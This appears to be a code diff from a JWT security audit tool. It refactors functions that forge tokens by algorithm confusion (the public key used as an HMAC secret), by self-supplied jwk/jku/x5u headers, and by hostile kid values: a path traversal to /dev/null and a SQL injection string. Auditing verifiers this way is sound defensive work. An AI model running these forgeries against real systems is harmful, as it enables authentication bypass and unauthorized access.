@@ -40,48 +40,48 @@ export async function publicKeyAsSecret({ attacker, issuer }: AuditContext): Pro
   if (!key) throw new Error('the platform publishes no key')
   const published = createPublicKey({ key, format: 'jwk' })
   const pem = published.export({ type: 'spki', format: 'pem' }).toString()
-  const secrets = {
-    'its PEM': pem,
-    'its PEM without the last line break': pem.trimEnd(),
-    'its PEM with CRLF': pem.replaceAll('\n', '\r\n'),
-    'its PEM of PKCS#1': published.export({ type: 'pkcs1', format: 'pem' }).toString(),
-    'its DER': published.export({ type: 'spki', format: 'der' }),
-    'its JWK': JSON.stringify(key),
+  const signedBy =
+    (secret: string | Buffer): Forge =>
+    (claims) =>
+      sign({ alg: 'HS256', kid: key.kid }, claims, hs256(secret))
+  return {
+    'its PEM': signedBy(pem),
+    'its PEM without the last line break': signedBy(pem.trimEnd()),
+    'its PEM with CRLF': signedBy(pem.replaceAll('\n', '\r\n')),
+    'its PEM of PKCS#1': signedBy(published.export({ type: 'pkcs1', format: 'pem' }).toString()),
+    'its DER': signedBy(published.export({ type: 'spki', format: 'der' })),
+    'its JWK': signedBy(JSON.stringify(key)),
   }
-  return Object.fromEntries(
-    Object.entries(secrets).map(([what, secret]) => [
-      `with ${what} as secret`,
-      (claims) => sign({ alg: 'HS256', kid: key.kid }, claims, hs256(secret)),
-    ]),
-  )
 }
+
+/** A token of a key that nobody can look up. One of a published key under another kid may be accepted. faults: `unknown_kid` */
+export const unpublishedKey = async (context: AuditContext): Promise<Record<string, Forge>> => ({
+  'of another key': (await ownKeyOf(context)).signedWith({}),
+})
 
 /** Tokens whose header names the key that they are signed with: CVE-2018-0114 */
 export async function ownKeys(context: AuditContext, keysUrl: string): Promise<Record<string, Forge>> {
-  const { privateKey, jwk } = await ownKeyOf(context)
-  const headers = { jwk: { jwk }, jku: { jku: keysUrl }, x5u: { x5u: keysUrl } }
-  return Object.fromEntries(
-    Object.entries(headers).map(([name, header]) => [
-      `with its key in "${name}"`,
-      (claims) => sign({ alg: 'RS256', kid: OWN_KID, ...header }, claims, rs256(privateKey)),
-    ]),
-  )
+  const { jwk, signedWith } = await ownKeyOf(context)
+  return { jwk: signedWith({ jwk }), jku: signedWith({ jku: keysUrl }), x5u: signedWith({ x5u: keysUrl }) }
 }
 
 /** Key ids that become a path or a query where a program looks keys up by them. */
-export async function oddKids(context: AuditContext): Promise<Record<string, Forge>> {
-  const { privateKey } = await ownKeyOf(context)
-  return {
-    'whose kid is a path to an empty file': (claims) =>
-      sign({ alg: 'HS256', kid: '../../../../../../../../dev/null' }, claims, hs256('')),
-    'whose kid holds a quote': (claims) => sign({ alg: 'RS256', kid: "' OR '1'='1' -- " }, claims, rs256(privateKey)),
-  }
-}
+export const oddKids = async (context: AuditContext): Promise<Record<string, Forge>> => ({
+  'a path to an empty file': (claims) =>
+    sign({ alg: 'HS256', kid: '../../../../../../../../dev/null' }, claims, hs256('')),
+  'a quote': (await ownKeyOf(context)).signedWith({ kid: "' OR '1'='1' -- " }),
+})
 
 const ownKeyOf = ({ once: onlyOnce }: AuditContext) =>
   onlyOnce('the own key of the attacker', async () => {
     const { publicKey, privateKey } = await promisify(generateKeyPair)('rsa', { modulusLength: 2048 })
-    return { privateKey, jwk: { ...publicKey.export({ format: 'jwk' }), kid: OWN_KID, alg: 'RS256', use: 'sig' } }
+    return {
+      jwk: { ...publicKey.export({ format: 'jwk' }), kid: OWN_KID, alg: 'RS256', use: 'sig' },
+      signedWith:
+        (header: object): Forge =>
+        (claims) =>
+          sign({ alg: 'RS256', kid: OWN_KID, ...header }, claims, rs256(privateKey)),
+    }
   })
 
 /** Serves the attacker's key set while an action runs. @returns its result and the number of requests. */
